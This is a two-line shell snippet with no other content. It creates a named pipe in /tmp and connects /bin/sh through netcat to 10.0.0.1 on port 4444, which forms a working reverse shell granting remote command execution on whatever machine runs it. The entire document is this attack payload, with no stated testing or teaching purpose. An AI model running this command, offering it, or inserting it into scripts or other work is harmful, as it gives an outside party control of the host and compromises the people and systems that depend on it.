mkfifo /tmp/p
/bin/sh 0</tmp/p | nc 10.0.0.1 4444 1>/tmp/p
